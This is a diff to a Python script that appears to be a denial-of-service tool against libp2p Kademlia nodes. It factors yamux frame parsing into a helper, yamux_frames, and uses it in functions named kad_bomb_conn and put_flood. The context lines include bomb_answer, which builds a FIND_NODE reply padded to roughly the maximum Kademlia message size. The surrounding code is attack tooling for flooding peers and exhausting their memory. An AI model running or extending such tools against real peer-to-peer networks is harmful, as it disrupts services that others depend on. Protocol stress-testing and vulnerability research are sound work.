@@ -242,6 +242,20 @@ def respond(s, ident):
     return Opener(k1), Cipher(k2)
 
 
+def yamux_frames(plain):
+    """The complete yamux frames at the start of plain, as (type, flags,
+    stream id, length, payload), and what is left."""
+    frames = []
+    while len(plain) >= 12:
+        _, typ, flags, sid, length = struct.unpack('>BBHII', plain[:12])
+        n = length if typ == 0 else 0
+        if len(plain) < 12 + n:
+            break
+        frames.append((typ, flags, sid, length, plain[12:12 + n]))
+        plain = plain[12 + n:]
+    return frames, plain
+
+
 def bomb_answer():
     """FIND_NODE with empty closerPeers, as large as a Kademlia message may be."""
     body = b'\x08\x04' + b'\x42\x00' * ((4 * 1024 * 1024 - 16) // 2)
@@ -277,12 +291,8 @@ def kad_bomb_conn(s, ident, bomb):
             plain = plain[plain.index(b'\n', plain.index(b'\n') + 1) + 1:]
             muxed = True
         reply = b''
-        while len(plain) >= 12:
-            _, typ, flags, sid, length = struct.unpack('>BBHII', plain[:12])
-            n = length if typ == 0 else 0
-            if len(plain) < 12 + n:
-                break
-            payload, plain = plain[12:12 + n], plain[12 + n:]
+        frames, plain = yamux_frames(plain)
+        for typ, flags, sid, length, payload in frames:
             if typ == 2 and flags & 1:
                 reply += yamux(2, 2, 0, length)
                 continue
@@ -484,12 +494,8 @@ def put_flood(host, port, seconds, count):
             plain = plain[plain.index(b'\n', plain.index(b'\n') + 1) + 1:]
             muxed = True
         reply = b''
-        while len(plain) >= 12:
-            _, typ, flags, sid, length = struct.unpack('>BBHII', plain[:12])
-            n = length if typ == 0 else 0
-            if len(plain) < 12 + n:
-                break
-            plain = plain[12 + n:]
+        frames, plain = yamux_frames(plain)
+        for typ, flags, sid, length, _ in frames:
             if typ == 2 and flags & 1:  # ping
                 reply += yamux(2, 2, 0, length)
             elif typ == 3:  # GoAway
